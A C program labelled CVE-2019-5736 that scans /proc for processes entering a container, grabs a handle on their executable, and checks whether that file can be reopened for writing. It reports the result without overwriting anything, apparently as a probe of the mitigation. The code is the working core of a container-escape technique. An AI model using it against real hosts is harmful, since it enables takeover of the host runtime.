/* CVE-2019-5736: watches for processes that enter the container and are not yet the program asked for, and takes hold
 * of their executable, which is the engine. Runs until killed; prints each handle on the file whose device and inode are
 * its arguments: "GOT READONLY" (through a mount that nothing can ever be written through) or "GOT WRITABLE", with what
 * opening it for writing says just now. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char path[300];
	int announced = 0, attempts = 0;

	if (argc != 3)
		return 2;
	dev_t device = strtoull(argv[1], NULL, 10);
	ino_t inode = strtoull(argv[2], NULL, 10);
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		if (!proc)
			return 1;
		while ((entry = readdir(proc)) != NULL) {
			if (atoi(entry->d_name) <= 1 || atoi(entry->d_name) == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			/* Not even the right to read the file is needed to hold it. */
			int file = open(path, O_PATH | O_CLOEXEC);
			attempts++;
			if (file < 0)
				continue;
			struct stat seen;
			struct statvfs mount;
			if (fstat(file, &seen) == 0 && fstatvfs(file, &mount) == 0 && seen.st_dev == device &&
			    seen.st_ino == inode) {
				char again[64];
				snprintf(again, sizeof again, "/proc/self/fd/%d", file);
				int write_to = open(again, O_WRONLY | O_CLOEXEC);
				printf("GOT %s %s\n", mount.f_flag & ST_RDONLY ? "READONLY" : "WRITABLE",
				       write_to >= 0 ? "opened" : strerror(errno));
				if (write_to >= 0)
					close(write_to);
			}
			close(file);
		}
		closedir(proc);
		if (!announced++)
			puts("watching");
	}
	return attempts == 0;
}
